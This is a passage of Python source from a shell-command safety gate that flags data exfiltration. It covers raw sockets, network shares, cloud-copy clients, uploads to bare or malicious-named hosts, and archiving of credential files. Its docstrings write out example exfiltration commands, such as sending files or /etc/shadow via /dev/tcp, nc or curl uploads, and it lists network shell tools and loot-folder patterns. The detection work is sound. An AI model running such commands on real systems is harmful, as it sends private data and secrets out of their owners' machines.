            elif a.startswith("--output-document=") or a.startswith("--output="):
                downloaded[a.split("=", 1)[1]] = cmd.name
        if cmd.name in ("wget", "wget2") and not any(a.startswith(("-O", "--output-document")) for a in words):
            for a in words:
                if "://" in a:
                    downloaded[a.rstrip("/").rsplit("/", 1)[-1]] = cmd.name

    def socket_sent(self, cmd: Command, where: str, add: Callable[[Finding], None]) -> None:
        """A file written into bash's own sockets (`cat FILE > /dev/tcp/HOST/PORT`, /dev/udp too, any reader or
        archiver: `tar cz ~/Documents > /dev/tcp/...`) leaves over a raw connection: to a bare address or a host
        named for malice, or when the file is named as taken data or is a personal folder's, it blocks (to a
        named host the redirect asks as before)."""
        sent = _raw_socket_file(cmd)
        if sent:
            add(Finding("block.shell.exfiltration", Risk.CRITICAL, f"{cmd.name} sends {sent}{where}", cmd.span))

    def output_to_share(self, cmd: Command, where: str, add: Callable[[Finding], None]) -> None:
        """PowerShell's writers of a pipeline's output (Export-Csv, Out-File, Set-Content, Export-Clixml, ...)
        aimed at another machine's share (`\\\\host\\share\\f.csv`): what the pipeline produced leaves the
        machine. To a bare public address or a drop site it blocks; to a named host it asks."""
        for k, a in enumerate(cmd.argv[1:], 1):
            unc = _UNC.match(a)
            if unc is None or _LOOPBACK.match(unc.group("host")) or k in cmd.dynamic:
                continue
            place = _risky_place(cmd.name, a, cmd)
            if place:
                add(Finding("block.shell.exfiltration", Risk.CRITICAL, f"{cmd.name} writes what the command "
                            f"before it produced to {_shown(a)} on {place}{where}", cmd.span))
            else:
                add(Finding("confirm.shell.network", Risk.MEDIUM, f"{cmd.name} writes its output to another "
                            f"machine's share {_shown(a)}{where}", cmd.span))
            return

    def copy_out(self, cmd: Command, analysis: ShellAnalysis, where: str, add: Callable[[Finding], None]) -> None:
        """An object-store, sync or backup client's copy judged by what goes and where to (`[cloud_copy]`):
        private records (a home, a personal or business-records folder, a whole drive, a database dump) to a
        personal file-sharing account, a drop site, a bare IP or a bucket written without credentials blocks,
        and so does a production, customer or backup bucket copied into another bucket; private records to
        any other remote storage ask. Build output and ordinary files are left to the other rules."""
        name = cmd.name
        if name in COPY.loaders:
            _loaded_elsewhere(cmd, analysis, where, add)
            return
        layout = _copy_operands(cmd, analysis)
        if layout is None or dry_run(name, cmd.words):
            return
        sources, dest = layout
        if not dest or not _remote(name, dest):
            return
        place = _risky_place(name, dest, cmd)
        shown = _shown(dest)
        asked = ""
        for src in sources:
            if src == "-" or (name == "rclone" and "rcat" in cmd.words[1:3]):
                what, bucket = _piped_records(cmd, analysis), ""
            elif _remote(name, src) and not _other_share(src, dest):
                what, bucket = "", _bucket_records(name, src, dest)
            elif _remote(name, src):  # a file server's share copied off: the organisation's files leaving
                what, bucket = _records(cmd, src), ""
            else:
                secret = self.secret_path(cmd, src) or (None if _records(cmd, src) else _kind_of(cmd, src))
                if secret:
                    add(Finding("block.shell.credential-exfiltration", Risk.CRITICAL,
                                f"{name} copies {secret} to {shown}{where}", cmd.span))
                    return
                if loot_named(src) and not _LOOPBACK_WORD.search(dest):
                    add(Finding("block.shell.exfiltration", Risk.CRITICAL,
                                f"{name} copies {src} (named as taken data) to {shown}{where}", cmd.span))
                    return
                what, bucket = _records(cmd, src), ""
                if not what and place and not place.startswith("the bare address"):
                    what = _home_folder(cmd, src)
            if bucket:
                add(Finding("block.shell.cloud-exfiltration", Risk.CRITICAL,
                            f"{name} copies {bucket} into another bucket ({shown}): the data leaves the "
                            f"organisation's storage{where}", cmd.span))
                return
            if what and place and not (place.endswith(_PERSONAL_ACCOUNT) and _ones_own(what)):
                add(Finding("block.shell.cloud-exfiltration", Risk.CRITICAL,
                            f"{name} copies {what} to {place}{where}", cmd.span))
                return
            asked = asked or what
        if asked:
            add(Finding("confirm.shell.network", Risk.HIGH,
                        f"{name} copies {asked} to {shown}: is that storage the organisation's?{where}", cmd.span))
        elif place:
            add(Finding("confirm.shell.network", Risk.MEDIUM, f"{name} copies files to {place}{where}", cmd.span))


_PERSONAL_ACCOUNT = "a personal file-sharing account"


def _other_share(src: str, dest: str) -> bool:
    """`src` is a file server's share (`\\\\fs01\\finance`, `//nas/legal`) on another host than `dest`'s: what it
    holds is the organisation's shared files, judged as private records wherever they go."""
    unc = _UNC.match(src)
    if unc is None or _LOOPBACK.match(unc.group("host")):
        return False
    there = _UNC.match(dest)
    return there is None or there.group("host").lower() != unc.group("host").lower()


def _ones_own(what: str) -> bool:
    """`what` (a display form of `_records` / `_home_folder`) is a person's own files, which people back up to
    their own cloud drive: asked, since the gate cannot tell whose account it is; business records, a whole
    drive or share, accounts or a database to such an account still block."""
    return what.startswith(("the personal folder ", "the whole folder ", "the home folder "))


def _loaded_elsewhere(cmd: Command, analysis: ShellAnalysis, where: str, add: Callable[[Finding], None]) -> None:
    """A database client loading a dump (piped in, redirected in, or a dump file) into a server at a bare
    public address: the whole database leaves for a stranger's machine (a named server is left as it was)."""
    flags = COPY.loaders[cmd.name]
    server = ""
    for k, w in enumerate(cmd.argv[1:], 1):
        flag, eq, value = w.partition("=")
        if flag in flags:
            server = value if eq else (cmd.argv[k + 1] if k + 1 < len(cmd.argv) else "")
        elif flag.startswith(tuple(f for f in flags if len(f) == 2)) and len(flag) > 2 and not flag.startswith("--"):
            server = w[2:]  # -h203.0.113.5
        elif "://" in w or "@" in w:
            server = server or w
        if server:
            break
    drop = risky_destination((server.lower(),)) if server else None
    if drop is None or (drop[0].isdigit() and _own_network(drop)):
        return
    files = [t for op, t in cmd.redirects if op == "<"] + [w for w in cmd.words[1:] if not w.startswith("-")]
    what = _piped_records(cmd, analysis) or next((f"the database dump {f}" for f in files if _DUMP_FILE.search(f)), "")
    if what:
        place = drop if drop[0].isalpha() else f"the bare address {drop}"
        add(Finding("block.shell.cloud-exfiltration", Risk.CRITICAL,
                    f"{cmd.name} loads {what} into the database server at {place}{where}", cmd.span))


def _shown(dest: str) -> str:
    """Where a copy goes, for a person: without a URL's query (a SAS or signed URL's token is a secret)."""
    return dest.split("?", 1)[0][:60]


def _copy_operands(cmd: Command, analysis: ShellAnalysis) -> tuple[list[str], str] | None:
    """(what goes, where it goes) of a copy verb of `cmd`, or None when it is no copy (`rclone lsd remote:`)."""
    name = cmd.name
    if name in COPY.uploaders:
        uploads = _uploaded_files(cmd)
        url = next((w for w in cmd.words[1:] if "://" in w), "")
        return (uploads, url) if uploads and url else None
    verbs = COPY.verbs.get(name)
    if not verbs:
        return None
    short = COPY.short_valued.get(name, frozenset())
    dest_flags = COPY.dest_flags.get(name, frozenset())
    src_flags = COPY.source_flags.get(name, frozenset())
    slash = name in COPY.slash_options
    plain: list[str] = []
    dest = ""
    flagged: list[str] = []
    smb_script = ""
    words = cmd.words
    k = 1
    while k < len(words):
        w = words[k]
        if w == "--":
            plain.extend(words[k + 1:])
            break
        if (w.startswith("-") and w != "-") or (slash and _SLASH_OPTION.match(w)):
            flag, eq, value = w.partition("=")
            exact = cmd.argv[k].partition("=")[0] if k < len(cmd.argv) else flag  # (-P port, -p preserve)
            takes = flag in COPY.valued or exact in short or flag in dest_flags or flag in src_flags
            if takes and not eq and k + 1 < len(words):
                value, k = words[k + 1], k + 1
            if value and flag in COPY.remote_flags.get(name, ()) and "://" not in value:
                value = f"{_SCHEME.get(name, 's3')}://{value}"
            if flag in dest_flags and value:
                dest = dest or value
            elif flag in src_flags and value:
                flagged.append(value)
            elif name == "smbclient" and flag in ("-c", "--command") and value:
                smb_script = value
            k += 1
            continue
        plain.append(w)
        k += 1
    verb = next((v for v in verbs if tuple(plain[:len(v)]) == v), None)
    if verb is None:
        return None
    operands = plain[len(verb):]
    layout = COPY.dest.get(name, "last")
    if layout == "flag" or dest:
        if name == "az":
            return flagged, "azure storage"
        dest = dest or next((v for n, v in analysis.assignments if n in COPY.repository_variables), "")
        return flagged + operands, dest or ("the connected repository" if name == "kopia" else "")
    if layout == "smbclient":
        puts = [a for part in smb_script.split(";") if (p := part.split())[:1] in (["put"], ["mput"])
                for a in (p[1:2] if p[0] == "put" else p[1:])]
        return (puts, operands[0]) if operands and puts else None
    operands = flagged + operands
    if not operands:
        return None
    if layout == "first":
        return operands[1:], operands[0]
    if layout == "second":
        return (operands[:1], operands[1]) if len(operands) > 1 else None
    if name == "rclone" and verb == ("rcat",):
        return ["-"], operands[-1]
    if len(operands) < 2:
        return None
    return operands[:-1], operands[-1]


def _remote(name: str, word: str) -> bool:
    """`word` names remote storage for program `name` (not a path on this machine)."""
    if name in ("az", "kopia") and word in ("azure storage", "the connected repository"):
        return True
    if name in COPY.uploaders:
        return bool(_ANY_URL.match(word))
    unc = _UNC.match(word)
    if unc:  # \\host\share: another machine's share, unless it is this one
        return name not in ("rsync", "scp") and not _LOOPBACK.match(unc.group("host"))
    if name in COPY.share_only:
        return False
    if _DRIVE.match(word) or word.startswith(("/", "./", "../", "~", "$", "\\\\")):
        return False
    if name in ("aws", "s3cmd", "s5cmd"):
        return word.startswith("s3://")
    if name == "gcloud":
        return bool(_BUCKET_URL.match(word) or _HOST_PATH.match(word))  # (compute scp: vm:path)
    if name == "gsutil":
        return bool(_BUCKET_URL.match(word))
    if name in ("azcopy", "duplicity"):
        return bool(_ANY_URL.match(word))
    if name == "rclone":
        return bool(_RCLONE_REMOTE.match(word))
    if name == "mc":
        return "/" in word and not _ANY_URL.match(word)
    if name in ("restic", "rustic"):
        return bool(_RESTIC_REPO.match(word))
    return bool(_ANY_URL.match(word) or _HOST_PATH.match(word))  # rsync, scp, borg


def _risky_place(name: str, dest: str, cmd: Command) -> str:
    """Where `dest` is, when that is a place the person may not own (else an empty string)."""
    unc = _UNC.match(dest)
    drop = risky_destination((f"//{unc.group('host')}/",) if unc else (dest,))
    if drop and drop[0].isalpha():
        return drop
    if drop and not _own_network(drop):
        return f"the bare address {drop}"
    if name in ("rclone", "mc"):
        remote = (_RCLONE_REMOTE.match(dest).group(1) if name == "rclone" and _RCLONE_REMOTE.match(dest)
                  else dest.split("/", 1)[0]).lstrip(":")
        if COPY.personal_remote.search(remote):
            return f"{remote}:, a personal file-sharing account"
    if any(w in ("--no-sign-request", "--anonymous", "--anon") for w in cmd.words):
        return f"{_shown(dest)} without credentials: a bucket anyone may write to, not the organisation's"
    return ""


def _own_network(address: str) -> bool:
    """A private, link-local or shared (CGNAT, tailnet) address: a machine of this network, not a stranger's."""
    try:
        ip = ipaddress.ip_address(address)
    except ValueError:
        return False
    return any(ip in net for net in _OWN_NETWORKS if ip.version == net.version)


def _home_folder(cmd: Command, word: str) -> str:
    """A whole top folder of a home (`~/projects`, `/home/ann/work`), as a display form: sent to a personal
    file-sharing account, a drop site or a bucket anyone writes to, everything in it leaves at once (to a
    bare address it may be a deploy, and only private records block)."""
    path = (resolve_path(word, cmd.cwd or None) or word).lower()
    return f"the whole folder {word} of a home" if _HOME_TOP.match(path) else ""


def _records(cmd: Command, word: str) -> str:
    """What private a local path is (display form), or an empty string: a whole drive or share, homes, a
    personal folder, a database's data or dump, a folder named for a business's private records."""
    if word.startswith(("\\\\", "//")):
        return f"the network share {word[:60]}"
    path = (resolve_path(word, cmd.cwd or None) or word).lower()
    if _WHOLE_DRIVE.match(path):
        return f"the whole drive {word}"
    if _HOMES.match(path):
        return f"the home folder {word}" if path.count("/") > 1 and not path.endswith("/home") else \
            f"every home folder ({word})"
    if _MY_FILES.match(path):
        named = _named_records(path, word)  # a business's records kept under Documents are still theirs
        return named or f"the personal folder {word}"
    if _ACCOUNTS_TREE.match(path):
        return f"the system's configuration and accounts ({word})"
    if _DB_DATA.search(path) or path.endswith(COPY.records_suffixes):
        return f"the database data {word}"
    return _named_records(path, word)


_NAME_PARTS = re.compile(r"[-_. ]")


def _named_records(path: str, word: str) -> str:
    """A folder on `path` named for a business's private records (finance, payroll, customers, ...)."""
    for part in path.strip("/").split("/"):
        if part in COPY.sensitive_names or any(t in COPY.sensitive_names for t in _NAME_PARTS.split(part) if t):
            return f"the {part} folder ({word})"
    return ""


def _piped_records(cmd: Command, analysis: ShellAnalysis) -> str:
    """What private an upstream command of the pipeline hands the copy on its input: a database dump, or an
    archive of a private folder."""
    for i in cmd.upstream:
        up = analysis.commands[i]
        if up.name in COPY.dumpers:
            return f"a database dump ({up.name})"
        if up.name in _ARCHIVING:
            for w in up.words[1:]:
                if not w.startswith("-"):
                    what = _records(up, w)
                    if what:
                        return f"an archive of {what}"
    return ""


def _bucket_records(name: str, src: str, dest: str) -> str:
    """A source bucket named for private records (production, customers, backups, payroll) copied to a
    different bucket: what it is (display form), or an empty string."""
    if not _remote(name, dest):
        return ""

    def bucket(url: str) -> str:
        rest = url.split("://", 1)[1] if "://" in url else url.split(":", 1)[-1]
        parts = rest.strip("/").split("/")
        if _STORAGE_ACCOUNT_HOST.search(parts[0]):  # account.blob.core.windows.net/container
            return f"{parts[0].split('.', 1)[0]}/{parts[1].split('?', 1)[0] if len(parts) > 1 else ''}"
        return parts[0]

    b, other = bucket(src), bucket(dest)
    if b and b != other and COPY.sensitive_bucket.search(b) and not _same_owner(b, other):
        return f"the bucket {b}"
    return ""


_OWNER_SEP = re.compile(r"[-_.]")


def _same_owner(a: str, b: str) -> bool:
    """Two bucket names that say they belong to the same organisation or system: one holds the other
    (`orders` → `orders-dr`) or they start with the same name (`acme-prod-db` → `acme-backups`)."""
    if not a or not b:
        return False
    if a in b or b in a:
        return True
    first_a, first_b = _OWNER_SEP.split(a, maxsplit=1)[0], _OWNER_SEP.split(b, maxsplit=1)[0]
    return first_a == first_b and len(first_a) >= 3 and not COPY.sensitive_bucket.fullmatch(first_a)


# -- files sent whole over a raw connection or an upload, judged by their names and the place -------------
_RAW_SOCKET_TOOLS = frozenset({"nc", "ncat", "netcat", "socat", "openssl", "telnet", "cryptcat", "pwncat"})
_DEV_NET = re.compile(r"^/dev/(tcp|udp)/(?P<host>[^/]+)/\d+$")
_IPV4 = re.compile(r"(?:^|[@/\s=\[:])(?P<ip>\d{1,3}(?:\.\d{1,3}){3})(?=$|[:/\s\]])")
_FEEDERS = frozenset({"cat", "tac", "type", "get-content", "gc", "base64", "xxd", "gzip", "bzip2", "xz", "zstd",
                      "openssl", "gpg", "dd", "pv"})
# folders every account of the machine shares (Public, Shared, All Users): their files are nobody's own
_SHARED_FOLDER = re.compile(r"/(users|home)/(public|shared|all users|default)(/|$)", re.I)
_HOME_WORD = re.compile(r"^(~|\$\{?home\}?|\$env:userprofile|%userprofile%)([\\/](documents|desktop|pictures|"
                        r"downloads|onedrive)?)?[\\/]?$", re.I)


def _bare_ip(words: tuple[str, ...] | list[str]) -> str | None:
    """The first IPv4 address among `words` that is not this machine (private ranges count: a raw address is
    nobody's named service)."""
    for w in words:
        m = _IPV4.search(w)
        if m is None:
            continue
        try:
            ip = ipaddress.ip_address(m.group("ip"))
        except ValueError:
            continue
        if not ip.is_loopback and not ip.is_unspecified:
            return str(ip)
    return None


def _files_sent(cmd: Command, analysis: ShellAnalysis) -> list[str]:
    """The local files `cmd` sends whole: an HTTP client's upload (`-T`, `-F f=@x`, `--data-binary @x`,
    `-InFile`), a raw socket tool's input (`< file`, socat's `FILE:`, `cat file |`), scp/rsync operands."""
    name = cmd.name
    files = list(_uploaded_files(cmd)) + _more_uploads(cmd) + _transferred_files(name, list(cmd.argv[1:]))
    if name in _RAW_SOCKET_TOOLS or (name in NET_SENDERS and _stdin_is_body(cmd)):
        files += [t for op, t in cmd.redirects if op == "<"]
        files += [w.split(":", 1)[1].split(",", 1)[0] for w in cmd.words[1:]
                  if w.lower().startswith(("file:", "open:", "gopen:"))]
        for i in cmd.upstream:
            up = analysis.commands[i]
            if up.name in _FEEDERS:
                files += [w for w in up.words[1:] if not w.startswith("-")]
            files += [t for op, t in up.redirects if op == "<"]
    if name in ("scp", "rsync", "pscp", "sftp") and any(_HOST_PATH.match(w) and not _DRIVE.match(w)
                                                        for w in cmd.words[1:]):
        files += [w for w in cmd.words[1:] if not w.startswith("-") and (not _HOST_PATH.match(w) or _DRIVE.match(w))]
    return [f for f in files if f and f != "-" and not f.startswith("/dev/")]


def _packed_home(analysis: ShellAnalysis, cmd: Command, path: str) -> str:
    """`path` is an archive another command of the line makes of a home or a personal folder (`tar czf
    /tmp/h.tgz ~/Documents && curl -T /tmp/h.tgz ...`): what it holds (display form), else an empty string."""
    base = path.replace("\\", "/").rstrip("/").rsplit("/", 1)[-1].lower()
    for other in analysis.commands:
        if other is cmd or not (other.name in _ARCHIVING or other.name in ("compress-archive", "rar", "makecab")):
            continue
        words = [w for w in other.words[1:] if not w.startswith("-") or w.startswith("-destinationpath")]
        if not any(w.replace("\\", "/").rstrip("/").rsplit("/", 1)[-1].lower() == base for w in words):
            continue
        # what it archives: its own operands, or what the commands piped into it name (`Get-ChildItem -Recurse
        # $HOME\Documents | Compress-Archive -DestinationPath d.zip`)
        fed = [(up, w) for i in other.upstream for up in (analysis.commands[i],) for w in up.words[1:]]
        for source, w in [*((other, w) for w in other.words[1:]), *fed]:
            if w.startswith("-") or _SHARED_FOLDER.search(w.replace("\\", "/")):
                continue
            what = _records(source, w) if not _HOME_WORD.match(w) else f"the home folder {w}"
            if what:
                return f"{path}, an archive of {what}"
    return ""


def _taken_out(cmd: Command, analysis: ShellAnalysis) -> str:
    """A file leaving whole for a place no one vouches for (display form), else an empty string: a file named
    as taken data (`loot.7z`, `exfil_file`) or an archive just made of a home or a personal folder, to any host
    not this machine; any file over a raw socket (nc, socat, openssl) to a bare address, or uploaded to a bare
    public one; any file to a host named for malice."""
    files = _files_sent(cmd, analysis)
    if not files:
        return ""
    words = cmd.words[1:]
    joined = " ".join(words)
    if _LOOPBACK_WORD.search(joined) and not _bare_ip(words):
        return ""
    hostile = next((h for w in words if (h := hostile_host(w))), None)
    ip = _bare_ip(words)
    into = _loot_destination(words)
    if into:
        return f"the local file {files[0]} into {into}, a place named for taken data"
    for f in files:
        loot = loot_named(f)
        if loot:
            return f"the file {f} (named as taken data) to {hostile or ip or 'another machine'}"
        packed = _packed_home(analysis, cmd, f)
        if packed:
            return f"{packed} to {hostile or ip or 'another machine'}"
    if hostile:
        return f"the local file {files[0]} to {hostile}, a host named for malice"
    if ip and cmd.name in _RAW_SOCKET_TOOLS:
        return f"the local file {files[0]} over a raw connection to the bare address {ip}"
    if ip and not _own_network(ip) and cmd.name not in ("scp", "rsync", "pscp", "sftp"):
        # (an upload to a public bare address; a copy to one by scp or rsync is often a deploy, and asks)
        return f"the local file {files[0]} to the bare public address {ip}"
    return ""


# where an upload lands, named as taken data: a URL's path, scp's `host:path`, a storage API's `"path": ...`
_LOOT_SEGMENT = re.compile(r"^(?:loot|looted|exfil|exfiltrat\w*|stolen|leak|leaked|leaks|harvest|harvested|pillage|"
                           r"plunder|beute|butin|bot[ií]n|bottino)$", re.I)
_API_PATH = re.compile(r"\"path\"\s*:\s*\"([^\"]{1,300})\"")


def _loot_destination(words: list[str] | tuple[str, ...]) -> str:
    """The remote path an upload is written to when one of its folders is named as taken data (`/loot/`,
    `exfil/`, `stolen/`), else an empty string."""
    for w in words:
        paths = [m.group(1) for m in _API_PATH.finditer(w)]
        if "://" in w:
            paths.append(w.split("://", 1)[1].split("?", 1)[0].partition("/")[2])
        elif _HOST_PATH.match(w) and not _DRIVE.match(w):
            paths.append(w.split(":", 1)[1])
        for p in paths:
            if any(_LOOT_SEGMENT.match(seg) for seg in p.replace("\\", "/").split("/")[:-1]):
                return p
    return ""


def _raw_socket_file(cmd: Command) -> str:
    """`cat FILE > /dev/tcp/HOST/PORT` to a bare address, a host named for malice, or with a file named as taken
    data or from a personal folder: what leaves (display form), else an empty string."""
    target = next((m for op, t in cmd.redirects if op in (">", ">>", ">|") and (m := _DEV_NET.match(t))), None)
    if target is None or cmd.name in ("echo", "printf", "write-output", "write-host"):  # (their words are text)
        return ""
    host = target.group("host")
    files = [w[3:] if w.startswith("if=") else w for w in cmd.words[1:] if not w.startswith("-") and w != "-"
             and ("=" not in w or w.startswith("if="))]
    files += [t for op, t in cmd.redirects if op == "<"]
    kept = next((k for f in files if (k := _kind_of(cmd, f))), None)
    if kept:
        return f"{kept} over a raw connection to {host} (it never leaves the machine)"
    if not files or host in ("localhost", "127.0.0.1", "::1"):
        return ""
    ip = _bare_ip([host])
    hostile = hostile_host(host)
    place = f"the bare address {ip}" if ip else (f"{hostile}, a host named for malice" if hostile else host)
    for f in files:
        personal = loot_named(f) or _records(cmd, f) or ("personal" if _MY_FILES.match(
            (resolve_path(f, cmd.cwd or None) or f).lower()) else "")
        if ip or hostile or personal:
            return f"the file {f} over a raw connection to {place}"
    return ""


# a URL's query field or a form body's field that carries a credential (`?token=…`, `-d 'password=…'`)
_CREDENTIAL_FIELD = re.compile(r"(?:[?&]|^)((?:access_|api_?|auth_?|session_?|secret_?|private_?)?(?:token|key|secret|"
                               r"password|passwd|pwd|apikey|cookie|creds?|credentials?|session))=[^&\s]", re.I)


def _hostile_fetch(cmd: Command, where: str, add: Callable[[Finding], None]) -> None:
    """A download or request to a host whose own name announces malice (`evil.com`, `malware-cdn.net`,
    `attacker.example`, `c2.host.io`): asks, wherever the command sits (after `&&`, fed by xargs, inside `$( )`
    or `<( )`: each is judged as itself)."""
    host = next((h for w in cmd.words[1:] if not w.startswith("-") and (h := hostile_host(w))), None)
    if host and (field := next((m.group(1) for w in cmd.argv[1:] if (m := _CREDENTIAL_FIELD.search(w))), None)):
        # the request hands a credential-named field to the host that names itself an attacker's
        add(Finding("block.shell.credential-exfiltration", Risk.CRITICAL,
                    f"{cmd.name} sends a {field} to {host}, a host whose name announces malice{where}", cmd.span))
        return
    if host:
        add(Finding("confirm.shell.network", Risk.HIGH,
                    f"{cmd.name} reaches {host}, a host whose name announces malice{where}", cmd.span))
        return
    if cmd.name in NET_SENDERS or cmd.name in DOWNLOADERS:
        drop = risky_destination(tuple(w for w in cmd.words[1:] if "://" in w))
        if drop is not None and _CATCHER.search(drop):
            # (a request to a catcher tells its owner the line ran, from where, with whatever its address carries)
            add(Finding("confirm.shell.network", Risk.HIGH,
                        f"{cmd.name} reaches {drop}, a service that records every request for whoever made the "
                        f"address{where}", cmd.span))


# the drop sites (gate/catalogue.py `risky_destination`) that record requests rather than keep files: request
# catchers and out-of-band interaction servers
_CATCHER = re.compile(r"hook|request|bin\b|oast|interact|collaborator|canary|dnslog|ceye|pipedream|beeceptor|"
                      r"inspector|mockbin|smee")


# -- files that never leave, whatever the host (gate/dataout.py `sent_file_kind`) ------------------------------
# the spellings of an upload `_uploaded_files` leaves out: wget's `--post-file FILE` and `--body-file FILE` as two
# words, curl's `-F name=<FILE` (the file's text as the field) and `--data-ascii @FILE`, HTTPie's raw body `@FILE`
_SPACED_BODY_FILE = frozenset({"--post-file", "--body-file"})
_CURL_FORM = frozenset({"-f", "--form"})
# (only curl's short flags that take no value may come before: `-XPUT` is the method PUT, not `-T`)
_CURL_CLUSTER = re.compile(r"^-[sSLkfiIvqNgGjlnOR0-6ZJ#Mp]+(?P<f>[dFT])(?P<v>.*)$")
# file-transfer clients that take their commands in a script of their own: `put FILE` in it sends FILE
_SCRIPTED_SENDERS = frozenset({"lftp", "winscp", "smbclient", "ftp", "sftp", "tftp", "ncftp", "psftp", "pftp"})


def _more_uploads(cmd: Command) -> list[str]:
    """Local files a client sends that `_uploaded_files` does not name (see `_SPACED_BODY_FILE`), and the files
    a transfer client's own script puts (`smbclient -c 'put F'`, `tftp -c put F`, `ftp <<EOF put F`)."""
    name = cmd.name
    words = list(cmd.argv[1:])
    out: list[str] = []
    for k, a in enumerate(words):
        al = a.lower()
        nxt = words[k + 1] if k + 1 < len(words) else ""
        if name in ("wget", "wget2") and al in _SPACED_BODY_FILE and nxt:
            out.append(nxt)
        elif name in ("curl", "curlie") and al in _CURL_FORM and "=<" in nxt:
            out.append(nxt.split("=<", 1)[1].split(";", 1)[0])
        elif name in ("curl", "curlie") and al.startswith("--form=") and "=<" in a[7:]:
            out.append(a[7:].split("=<", 1)[1].split(";", 1)[0])
        elif name in ("curl", "curlie") and al == "--data-ascii" and nxt.startswith("@"):
            out.append(nxt[1:])
        elif name in ("curl", "curlie") and (m := _CURL_CLUSTER.match(a)):
            value = m.group("v") or nxt  # `-sd@FILE`, `-sT FILE`, `-sF f=@FILE`: a cluster of short flags
            if m.group("f") == "T" or (m.group("f") == "d" and value.startswith("@")):
                out.append(value.lstrip("@"))
            elif m.group("f") == "F" and ("=@" in value or "=<" in value):
                out.append(value.split("=", 1)[1][1:])
        elif name in ("http", "https", "xh") and a.startswith("@") and len(a) > 1 and \
                (k == 0 or not words[k - 1].startswith("-")):
            out.append(a[1:])  # HTTPie's raw body from a file: `http POST host @file`
    if name in _SCRIPTED_SENDERS:
        script = [*words, cmd.stdin_text or ""]
        out += [m.group(2) for w in script for m in _TRANSFER_PUT.finditer(w)]
        if name == "tftp" and any(w.lower() == "put" for w in words):
            out += [words[k + 1] for k, w in enumerate(words[:-1]) if w.lower() == "put"]
        if name == "tftp" and "-l" in words and any(w in ("-p", "--put") for w in words):
            out += [words[k + 1] for k, w in enumerate(words[:-1]) if w == "-l"]
    return [f.strip("'\"") for f in out if f and f not in ("-", "@-")]


def _kind_of(cmd: Command, word: str) -> str | None:
    """`word` (a path as written) as `sent_file_kind` names it, read as written and as resolved."""
    word = word.strip("'\"").split(";type=", 1)[0].split(";filename=", 1)[0]
    if not word or word.startswith("-") or "://" in word:
        return None
    return sent_file_kind(word) or sent_file_kind(resolve_path(word, cmd.cwd or None) or "")


_ARCHIVE_OUT = frozenset({"-f", "--file", "-cf", "-czf", "-cjf", "-cJf", "-zcf", "-cvf", "-czvf", "-cvzf", "-zcvf"})


def _packed_kind(analysis: ShellAnalysis, cmd: Command, path: str) -> str | None:
    """`path` is an archive or copy another command of the line makes of a file that never leaves (`tar czf
    /tmp/a.tgz /etc/passwd /etc/shadow && curl -T /tmp/a.tgz ...`, `cp /etc/shadow /tmp/s && nc ... < /tmp/s`)."""
    base = path.replace("\\", "/").rstrip("/").rsplit("/", 1)[-1].lower()
    if not base:
        return None
    for other in analysis.commands:
        if other is cmd or not (other.name in _ARCHIVING or other.name in ("cp", "copy", "copy-item", "cat", "mv",
                                                                         "compress-archive", "rar", "ditto")):
            continue
        words = [w for w in other.words[1:] if not w.startswith("-")]
        outs = [t for op, t in other.redirects if op in (">", ">>")]
        if not any(w.replace("\\", "/").rstrip("/").rsplit("/", 1)[-1].lower() == base for w in words + outs +
                   [w.split("=", 1)[-1] for w in other.words[1:] if w.startswith("-")]):
            continue
        hit = next((k for w in words if w.replace("\\", "/").rsplit("/", 1)[-1].lower() != base and
                    (k := _kind_of(other, w))), None)
        if hit:
            return f"{path}, which holds {hit}"
    return None


def _never_leaves(cmd: Command, analysis: ShellAnalysis) -> str | None:
    """A file that never leaves the machine (the system's accounts, a command history, a file named for its
    secrets: gate/dataout.py `sent_file_kind`) sent by a network client: uploaded, put in a request's body or a
    form, given to a socket on its standard input, put by a transfer client, or packed into an archive that is;
    whatever the host, this machine's own name or address included (`http://0/`, `localhost`: a tunnel or a
    forwarded port reaches anywhere)."""
    files = _files_sent(cmd, analysis)
    files += [t for op, t in cmd.redirects if op == "<"]
    if cmd.name in NET_SENDERS and (_stdin_is_body(cmd) or cmd.name in _RAW_SOCKET_TOOLS):
        for i in cmd.upstream:
            up = analysis.commands[i]
            if up.name in _FEEDERS or up.name in ("tar", "zip", "7z", "cpio", "head", "tail", "strings", "sort"):
                files += [w for w in up.words[1:] if not w.startswith("-")]
    for f in files:
        kind = _kind_of(cmd, f)
        if kind:
            return kind
    for f in files:
        packed = _packed_kind(analysis, cmd, f)
        if packed:
            return packed
    return None


# -- archives and copies written to another machine through a remote shell -----------------------------------
# tar's, cpio's and pax's archive named `[user@]host:path` is written there through rsh/ssh (`--rsh-command`
# chooses the program; `--force-local` says the colon is only part of a file's name)
_REMOTE_ARCHIVERS = frozenset({"tar", "gtar", "cpio", "pax"})
_ARCHIVE_FILE_FLAGS = frozenset({"-f", "--file", "-F", "-O", "-I", "--rmt-command"})
_TAR_VALUED = frozenset({"-C", "--directory", "-T", "--files-from", "-X", "--exclude-from", "-b", "-H", "--format",
                         "--rsh-command", "--rmt-command", "-I", "--use-compress-program", "-g", "--listed-incremental",
                         "-V", "--label", "-N", "--newer", "--owner", "--group", "--mode", "--exclude", "-K"})
_REMOTE_SHELLS = frozenset({"ssh", "rsh", "dbclient", "plink", "autossh"})


def _archive_file(cmd: Command) -> tuple[str, list[str]]:
    """The archive `cmd` (tar, cpio, pax) writes or reads, and the operands it packs (tar's)."""
    words = list(cmd.argv[1:])
    archive = ""
    members: list[str] = []
    k = 0
    while k < len(words):
        w = words[k]
        if w.startswith("--file=") or w.startswith("--rmt-command="):
            archive = archive or (w.split("=", 1)[1] if w.startswith("--file=") else "")
        elif w in _ARCHIVE_FILE_FLAGS and k + 1 < len(words):
            archive = archive or words[k + 1]
            k += 1
        elif (w.startswith("-") and not w.startswith("--") and w[-1:] == "f" and k + 1 < len(words)) or \
                (k == 0 and cmd.name in ("tar", "gtar") and not w.startswith("-") and w.endswith("f") and
                 w.isalpha() and k + 1 < len(words)):
            archive = archive or words[k + 1]  # `-czf X`, old style `cvf X`
            k += 1
        elif w.startswith("-F") and len(w) > 2 and cmd.name in ("cpio", "pax"):
            archive = archive or w[2:]
        elif w in _TAR_VALUED and k + 1 < len(words):
            k += 1
        elif not w.startswith("-"):
            members.append(w)
        k += 1
    return archive, members


def _fed_names(cmd: Command, analysis: ShellAnalysis) -> list[str]:
    """The file names the commands upstream of `cmd` print or read (find's roots and -name, echo's and ls's
    words, a reader's files, `dd if=`), for a program that packs or sends what it is fed."""
    out: list[str] = []
    for i in cmd.upstream:
        up = analysis.commands[i]
        for w in up.words[1:]:
            if w.startswith("if="):
                out.append(w[3:])
